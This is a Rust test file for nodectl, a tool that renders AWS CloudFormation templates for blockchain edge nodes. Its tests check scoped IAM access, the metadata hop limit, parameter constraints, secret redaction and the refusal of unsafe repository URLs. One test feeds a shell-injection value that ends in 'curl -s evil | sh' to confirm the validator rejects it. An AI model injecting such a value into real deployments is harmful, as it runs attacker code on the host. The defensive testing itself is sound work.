//! Each node's identity, offline, in the rendered templates: a node's role reads only its own
//! secret and signals only its own stack; no container can reach the instance role (metadata
//! hop limit 1); every parameter that reaches the user data's shell is constrained by its
//! template alone; secret-looking and credential-carrying values never reach a template.

use serde_json::Value;

use crate::config::rejects_warned;
use crate::support::{filled, theta_sample, upstream_sample, Workspace};

/// The rendered templates of `env_text`, by stack name.
fn rendered(env_text: &str, env: &[(&str, &str)]) -> Value {
    let out = Workspace::new(env_text).run_with(&["render"], env);
    out.success();
    serde_json::from_str(&out.stdout).unwrap()
}

fn allora() -> Value {
    rendered(&filled(&upstream_sample(), "123456789012"), &[])
}

fn theta() -> Value {
    rendered(&theta_sample("123456789012"), &[])
}

/// `pattern` (an IAM ARN pattern: `*` any run of characters, `?` one) matches `arn`.
fn arn_matches(pattern: &str, arn: &str) -> bool {
    fn go(p: &[u8], a: &[u8]) -> bool {
        match (p.first(), a.first()) {
            (None, None) => true,
            (Some(b'*'), _) => go(&p[1..], a) || (!a.is_empty() && go(p, &a[1..])),
            (Some(b'?'), Some(_)) => go(&p[1..], &a[1..]),
            (Some(x), Some(y)) if x == y => go(&p[1..], &a[1..]),
            _ => false,
        }
    }
    go(pattern.as_bytes(), arn.as_bytes())
}

/// The resource ARN pattern of a NodeAccess statement as IAM evaluates it for a principal whose
/// `NodectlNodeStack` tag is `node` (the template's `Fn::Join` with the pseudo parameters of
/// us-east-1 and account 123456789012, the policy variable substituted).
fn resource_for(statement: &Value, node: &str) -> String {
    let parts = statement["Resource"]["Fn::Join"][1].as_array().unwrap();
    parts
        .iter()
        .map(|part| match part {
            Value::String(text) => text.clone(),
            other => match other["Ref"].as_str().unwrap() {
                "AWS::Partition" => "aws".into(),
                "AWS::Region" => "us-east-1".into(),
                "AWS::AccountId" => "123456789012".into(),
                name => panic!("an unexpected Ref {name}"),
            },
        })
        .collect::<String>()
        .replace("${aws:PrincipalTag/NodectlNodeStack}", node)
}

#[test]
fn a_node_reads_only_its_own_secret_and_signals_only_its_own_stack() {
    for (templates, common, node) in [
        (allora(), "allora-edge-common", "allora-single-node"),
        (
            theta(),
            "theta-edge-common",
            "theta-edge-single-node-mainnet",
        ),
    ] {
        let statements = templates[common]["Resources"]["NodeAccess"]["Properties"]
            ["PolicyDocument"]["Statement"]
            .as_array()
            .unwrap()
            .clone();
        assert_eq!(statements.len(), 2, "{common}");
        let read = statements
            .iter()
            .find(|s| s["Action"] == "secretsmanager:GetSecretValue")
            .unwrap();
        let signal = statements
            .iter()
            .find(|s| s["Action"] == "cloudformation:SignalResource")
            .unwrap();
        // The node's own resources match; another node's, even one whose name starts with
        // this one's, do not.
        let own_secret = format!(
            "arn:aws:secretsmanager:us-east-1:123456789012:secret:{node}/node-secret-AbC123"
        );
        let own_stack = format!(
            "arn:aws:cloudformation:us-east-1:123456789012:stack/{node}/0f3c7a10-c84b-11f0-9a4e-0affd3a1b2c3"
        );
        assert!(
            arn_matches(&resource_for(read, node), &own_secret),
            "{node}"
        );
        assert!(
            arn_matches(&resource_for(signal, node), &own_stack),
            "{node}"
        );
        for other in [format!("{node}-2"), "other".to_string()] {
            let other_secret = own_secret.replace(&format!("{node}/"), &format!("{other}/"));
            let other_stack = own_stack.replace(&format!("/{node}/"), &format!("/{other}/"));
            assert!(
                !arn_matches(&resource_for(read, node), &other_secret),
                "{other}"
            );
            assert!(
                !arn_matches(&resource_for(signal, node), &other_stack),
                "{other}"
            );
        }
        // The variable is the node's role's own tag, its stack name; its instance uses that role.
        let resources = &templates[node]["Resources"];
        let tags = resources["InstanceRole"]["Properties"]["Tags"]
            .as_array()
            .unwrap();
        assert!(tags.contains(
            &serde_json::json!({"Key": "NodectlNodeStack", "Value": {"Ref": "AWS::StackName"}})
        ));
        assert_eq!(
            resources["InstanceProfile"]["Properties"]["Roles"],
            serde_json::json!([{"Ref": "InstanceRole"}])
        );
        assert_eq!(
            resources["Instance"]["Properties"]["IamInstanceProfile"],
            serde_json::json!({"Ref": "InstanceProfile"})
        );
        // No other statement of the node's templates grants a secret or a signal.
        let node_text = templates[node].to_string();
        assert!(!node_text.contains("secretsmanager:") && !node_text.contains("SignalResource"));
    }
}

#[test]
fn no_container_reaches_the_instance_metadata() {
    for (templates, node) in [
        (allora(), "allora-single-node"),
        (theta(), "theta-edge-single-node-mainnet"),
    ] {
        let options = &templates[node]["Resources"]["Instance"]["Properties"]["MetadataOptions"];
        assert_eq!(options["HttpTokens"], "required", "{node}");
        assert_eq!(options["HttpPutResponseHopLimit"], 1, "{node}");
    }
}

/// Every `${Name}` of the user data's `Fn::Sub` text.
fn user_data_names(template: &Value) -> Vec<String> {
    let text = template["Resources"]["Instance"]["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
        [0]
    .as_str()
    .unwrap();
    let mut names = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("${") {
        let after = &rest[start + 2..];
        let end = after.find('}').unwrap();
        names.push(after[..end].to_string());
        rest = &after[end + 1..];
    }
    names.sort();
    names.dedup();
    names
}

#[test]
fn every_parameter_that_reaches_the_shell_is_constrained_by_the_template_alone() {
    for (templates, node) in [
        (allora(), "allora-single-node"),
        (theta(), "theta-edge-single-node-mainnet"),
    ] {
        let template_value = &templates[node];
        let template = nodectl::template::Template::from_value(template_value.clone());
        let parameters = template_value["Parameters"].as_object().unwrap();
        let mut checked = 0;
        for name in user_data_names(template_value) {
            let Some(parameter) = parameters.get(&name) else {
                continue; // a pseudo parameter or a variable of the Fn::Sub map
            };
            if parameter["Type"] != "String" {
                continue;
            }
            checked += 1;
            let constrained = parameter.get("AllowedValues").is_some()
                || (parameter.get("AllowedPattern").is_some()
                    && parameter.get("MaxLength").is_some());
            assert!(
                constrained,
                "{node}: {name} has no AllowedPattern and MaxLength"
            );
            // The value nodectl renders passes; one that would break out of the script's single
            // quotes does not, whoever deploys the template.
            let default = parameter["Default"].as_str().unwrap().to_string();
            let pass = [(name.clone(), default.clone())];
            assert_eq!(
                nodectl::template::parameter_problems(&template, &pass),
                Vec::<String>::new(),
                "{node}: {name}"
            );
            let hostile = [(name.clone(), format!("{default}'; curl -s evil | sh; '"))];
            assert!(
                !nodectl::template::parameter_problems(&template, &hostile).is_empty(),
                "{node}: {name} accepts a single quote"
            );
        }
        assert!(checked >= 5, "{node}: {checked} shell-bound parameters");
    }
}

#[test]
fn model_settings_are_secret_unless_listed_as_public() {
    let canaries = [
        ("COINGECKO_APIKEY", "canary-cg-41e7"),
        ("HF_TOKEN_READ", "canary-hf-0b29"),
        ("SEED_PHRASE", "canary-seed-9d1c"),
        ("DB_PASS", "canary-db-77aa"),
        ("AUTH", "canary-auth-5f30"),
        ("INTERVAL", "canary-interval-c3d8"),
    ];
    let lines: String = canaries
        .iter()
        .map(|(name, value)| format!("{name}=\"{value}\"\n"))
        .collect();
    let text = filled(&upstream_sample(), "123456789012").replace(
        "CG_API_KEY=\"secret\"\n",
        &format!("CG_API_KEY=\"secret\"\n{lines}"),
    );
    let workspace = Workspace::new(&text);
    let out = workspace.run(&["render", "-v"]);
    out.success();
    for (name, value) in canaries {
        assert!(!out.stdout.contains(value), "{name} is in a template");
        assert!(!out.stderr.contains(value), "{name} is in a log line");
    }
    // Listed as public, INTERVAL goes into the template (ModelEnv, base64).
    let out = workspace.run_with(
        &["render", "single-node"],
        &[("NODECTL_PUBLIC_MODEL_ENV", "TOKEN,INTERVAL")],
    );
    out.success();
    let template: Value = serde_json::from_str(&out.stdout).unwrap();
    let model_env = aws_smithy_types::base64::decode(
        template["Parameters"]["ModelEnv"]["Default"]
            .as_str()
            .unwrap(),
    )
    .unwrap();
    let model_env = String::from_utf8(model_env).unwrap();
    assert_eq!(
        model_env,
        "TOKEN=\"ETH\"\nINTERVAL=\"canary-interval-c3d8\"\n"
    );
}

fn sample_with_repo(repo: &str) -> String {
    filled(&upstream_sample(), "123456789012").replace(
        "MODEL_REPO=\"https://github.com/allora-network/basic-coin-prediction-node\"",
        &format!("MODEL_REPO=\"{repo}\""),
    )
}

#[test]
fn a_model_repository_with_credentials_is_refused_without_showing_them() {
    rejects_warned(
        &sample_with_repo("https://ghp_canary7c1@github.com/acme/private-model"),
        &[],
        "error: .env:7: MODEL_REPO: the URL holds credentials (user \
             information before `@`), which would be copied into the template, the user data, \
             the boot log and .git/config (value hidden)\n\
             hint: use a public repository URL; for a private one, give the node read access \
             another way (a deploy key, or a token kept in the node's secret), never in \
             MODEL_REPO\n",
    );
}

#[test]
fn a_model_repository_without_tls_is_refused() {
    for (repo, scheme) in [
        ("http://github.com/acme/model", "http"),
        ("git://github.com/acme/model", "git"),
    ] {
        rejects_warned(
            &sample_with_repo(repo),
            &[],
            &format!(
                "error: .env:7: MODEL_REPO: `{scheme}://` is not allowed: \
                 nodectl clones over TLS only (https://)\n\
                 hint: use the repository's https:// URL; the code it holds runs on the node\n"
            ),
        );
    }
}

#[test]
fn public_model_settings_must_be_variable_names() {
    rejects_warned(
        &filled(&upstream_sample(), "123456789012"),
        &[("NODECTL_PUBLIC_MODEL_ENV", "TOKEN,BAD-NAME")],
        "error: NODECTL_PUBLIC_MODEL_ENV (from process environment): \
             `BAD-NAME` is not a variable name\n\
             hint: list MODEL_ENV_VARS names separated by commas, e.g. \"TOKEN,TIMEFRAME\"\n",
    );
}
